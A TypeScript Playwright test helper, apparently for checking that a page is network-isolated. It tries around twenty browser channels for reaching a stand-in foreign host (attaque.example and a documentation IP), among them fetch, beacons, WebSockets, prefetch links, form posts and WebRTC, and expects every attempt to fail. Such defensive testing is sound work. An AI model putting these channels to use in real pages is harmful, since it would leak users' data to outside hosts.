import type { Page } from 'playwright'

/** Name and address that no page may reach; the address is of RFC 5737. */
const FOREIGN = { name: 'attaque.example', address: '203.0.113.9' }

/** Does in the page of the reader what would send something from a browser, one way after the other; all of it is to fail. */
export async function attackPage(page: Page): Promise<void> {
  await page.evaluate(async ({ name, address }) => {
    const attempts: readonly (() => unknown)[] = [
      () => fetch(`http://${name}/`),
      () => fetch(`https://${address}/`, { mode: 'no-cors', keepalive: true }),
      () => new WebSocket(`ws://${name}/`),
      () => new EventSource(`http://${name}/`),
      () => navigator.sendBeacon(`http://${name}/`, 'x'),
      () => window.open(`http://${name}/`),
      () => new Worker(`http://${name}/x.js`),
      () => navigator.serviceWorker.register(`http://${name}/x.js`),
      () => {
        new Image().src = `http://${address}/x.png`
      },
      () => {
        window.location.assign(`http://${name}/`)
      },
      ...[
        'dns-prefetch',
        'preconnect',
        'prefetch',
        'preload',
        'modulepreload',
        'stylesheet',
        'icon',
        'manifest'
      ].map((rel) => () => {
        const link = Object.assign(document.createElement('link'), { rel, href: `http://${rel}.${name}/x` })
        document.head.append(link)
      }),
      () => {
        const refresh = document.createElement('meta')
        refresh.httpEquiv = 'refresh'
        refresh.content = `0; url=http://${name}/`
        document.head.append(refresh)
      },
      () => {
        const anchor = Object.assign(document.createElement('a'), {
          href: `http://${name}/`,
          ping: `http://${name}/`
        })
        document.body.append(anchor)
        anchor.click()
      },
      () => {
        const form = Object.assign(document.createElement('form'), {
          action: `http://${name}/`,
          method: 'post'
        })
        document.body.append(form)
        form.submit()
      },
      async () => {
        const peer = new RTCPeerConnection({
          iceServers: [{ urls: `stun:${address}` }, { urls: `turn:${name}`, username: 'x', credential: 'x' }]
        })
        peer.createDataChannel('x')
        await peer.setLocalDescription(await peer.createOffer())
      }
    ]
    await Promise.allSettled(attempts.map((attempt) => Promise.resolve().then(attempt)))
  }, FOREIGN)
}
